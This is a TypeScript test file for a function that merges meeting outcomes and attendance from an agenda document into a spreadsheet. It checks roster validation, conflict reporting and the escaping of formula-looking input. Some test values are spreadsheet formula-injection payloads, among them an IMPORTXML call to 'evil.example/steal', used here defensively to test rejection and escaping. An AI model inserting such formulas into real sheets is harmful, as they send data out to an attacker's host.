import { cellCharacterLimit, mergeBack } from '../../../src/core/agenda/merge-back';
import type { AgendaReadBack, AttendanceMark } from '../../../src/core/agenda/read-back';
import { escapeAsText, escapeForCell } from '../../../src/core/escape';

const roster = ['p0@school.org', 'p1@school.org', 'p2@school.org'];
const marks = (...present: boolean[]): AttendanceMark[] =>
  present.map((p, i) => ({ email: `p${i}@school.org`, present: p, row: i + 1 }));
const readBack = (
  over: Partial<AgendaReadBack> = {},
): Pick<AgendaReadBack, 'outcomes' | 'nextSteps' | 'attendance'> => ({
  outcomes: 'Add a worked example to the task.',
  nextSteps: 'Bo revises the task by 20 Oct',
  attendance: marks(true, false, true),
  ...over,
});

describe('mergeBack', () => {
  it('fills empty Meetings cells and adds attendance not yet recorded', () => {
    const merged = mergeBack({ meeting: {}, attendance: [] }, readBack(), { roster });
    expect(merged.meeting).toEqual({
      outcomes: 'Add a worked example to the task.',
      nextSteps: 'Bo revises the task by 20 Oct',
    });
    expect(merged.attendance).toEqual([
      { email: 'p0@school.org', present: true, source: 'Agenda Doc' },
      { email: 'p1@school.org', present: false, source: 'Agenda Doc' },
      { email: 'p2@school.org', present: true, source: 'Agenda Doc' },
    ]);
    expect(merged.conflicts).toEqual([]);
    expect(merged.rejected).toEqual([]);
  });

  it('never overwrites what someone typed in the sheet, and reports where it differs from the Doc', () => {
    const merged = mergeBack(
      {
        meeting: { outcomes: 'Decided in the hallway.', nextSteps: 'Bo revises the task by 20 Oct' },
        attendance: [
          { email: 'p0@school.org', present: true },
          { email: 'p1@school.org', present: true },
        ],
      },
      readBack(),
      { roster },
    );
    expect(merged.meeting).toEqual({});
    expect(merged.attendance).toEqual([{ email: 'p2@school.org', present: true, source: 'Agenda Doc' }]);
    expect(merged.conflicts).toEqual([
      { field: 'outcomes', inSheet: 'Decided in the hallway.', inDoc: 'Add a worked example to the task.' },
      { field: 'present', email: 'p1@school.org', inSheet: 'Yes', inDoc: 'No' },
    ]);
  });

  describe('a facilitator typing into the attendance table', () => {
    it("records an outsider's address nowhere, and says which row of the table it is in", () => {
      const attendance = [...marks(true), { email: 'visitor@elsewhere.example', present: true, row: 2 }];
      const merged = mergeBack({ meeting: {}, attendance: [] }, readBack({ attendance }), { roster });
      expect(merged.attendance.map((a) => a.email)).toEqual(['p0@school.org']);
      expect(merged.rejected).toEqual([
        {
          field: 'attendance',
          row: 2,
          value: 'visitor@elsewhere.example',
          message:
            "is not on the group's roster for this meeting — not recorded; correct the address in the agenda's attendance table",
        },
      ]);
    });

    it.each([
      '=x@evil.example',
      '"https://evil.example/?who=x@evil.example","//a"',
      '+p0@school.org',
      "'p0@school.org",
    ])('records no formula or formula-looking address such as %j', (email) => {
      const merged = mergeBack(
        { meeting: {}, attendance: [] },
        readBack({ attendance: [{ email, present: true, row: 4 }] }),
        { roster },
      );
      expect(merged.attendance).toEqual([]);
      expect(merged.rejected).toHaveLength(1);
      expect(merged.rejected[0]).toMatchObject({ field: 'attendance', row: 4, value: email });
    });

    it('records someone ticked twice once, and says nothing when both ticks agree', () => {
      const attendance = [...marks(true, false), { email: 'P0@School.org ', present: true, row: 3 }];
      const merged = mergeBack({ meeting: {}, attendance: [] }, readBack({ attendance }), { roster });
      expect(merged.attendance.map((a) => [a.email, a.present])).toEqual([
        ['p0@school.org', true],
        ['p1@school.org', false],
      ]);
      expect(merged.rejected).toEqual([]);
    });

    it('records someone both ticked and marked absent as present, and reports both rows', () => {
      const attendance = [...marks(false, true), { email: 'p0@school.org', present: true, row: 3 }];
      const merged = mergeBack({ meeting: {}, attendance: [] }, readBack({ attendance }), { roster });
      expect(merged.attendance[0]).toEqual({ email: 'p0@school.org', present: true, source: 'Agenda Doc' });
      expect(merged.attendance).toHaveLength(2);
      expect(merged.rejected).toHaveLength(1);
      expect(merged.rejected[0]!.message).toContain('rows 1 and 3');
    });
  });

  describe('run again and again', () => {
    it('adds nothing and reports nothing once its own rows are in the sheet', () => {
      const first = mergeBack({ meeting: {}, attendance: [] }, readBack(), { roster });
      // What the sheet holds after the first run: Sheets takes the escape apostrophe off as it stores the text.
      const stored = (text: string) => (text.startsWith("'") ? text.slice(1) : text);
      const sheet = {
        meeting: {
          outcomes: stored(escapeAsText(first.meeting.outcomes!)),
          nextSteps: stored(escapeAsText(first.meeting.nextSteps!)),
        },
        attendance: first.attendance.map((a) => ({ email: stored(escapeForCell(a.email)), present: a.present })),
      };
      for (let run = 0; run < 10; run++) {
        const again = mergeBack(sheet, readBack(), { roster });
        expect(again).toEqual({ meeting: {}, attendance: [], conflicts: [], rejected: [] });
      }
    });

    it.each(['=IMPORTXML("https://evil.example/steal","//a")', '+1', '-x', '@x', "'=1+1", '2026-10-06', 'TRUE'])(
      'recognises %j already in the sheet, as Sheets or a plain-text cell holds it',
      (typed) => {
        const inSheet = [typed, escapeAsText(typed), escapeForCell(typed)];
        for (const outcomes of inSheet) {
          const merged = mergeBack({ meeting: { outcomes }, attendance: [] }, readBack({ outcomes: typed }), {
            roster,
          });
          expect({ outcomes, conflicts: merged.conflicts, meeting: merged.meeting }).toEqual({
            outcomes,
            conflicts: [],
            meeting: { nextSteps: 'Bo revises the task by 20 Oct' },
          });
        }
      },
    );

    it('counts a row the registry could not read as recorded: no second row, nothing compared', () => {
      const merged = mergeBack(
        { meeting: {}, attendance: [{ email: 'p1@school.org' }, { email: "'P2@school.org" }] },
        readBack(),
        { roster },
      );
      expect(merged.attendance.map((a) => a.email)).toEqual(['p0@school.org']);
      expect(merged.conflicts).toEqual([]);
    });
  });

  it('keeps out of the sheet text a cell cannot hold or would read as an error, and says why', () => {
    const long = 'x'.repeat(cellCharacterLimit + 1);
    const merged = mergeBack({ meeting: {}, attendance: [] }, readBack({ outcomes: long, nextSteps: '#N/A' }), {
      roster,
    });
    expect(merged.meeting).toEqual({});
    expect(merged.rejected.map((r) => [r.field, r.message.split(' — ')[0]])).toEqual([
      ['outcomes', 'is longer than the 50,000 characters a cell can hold'],
      ['nextSteps', 'reads as a spreadsheet error in a cell'],
    ]);
  });

  it('without a roster, still checks that every address is an address', () => {
    const attendance = [...marks(true), { email: '=1+1', present: true, row: 2 }];
    const merged = mergeBack({ meeting: {}, attendance: [] }, readBack({ attendance }));
    expect(merged.attendance.map((a) => a.email)).toEqual(['p0@school.org']);
    expect(merged.rejected[0]!.message).toMatch(/^is not an email address/);
  });
});
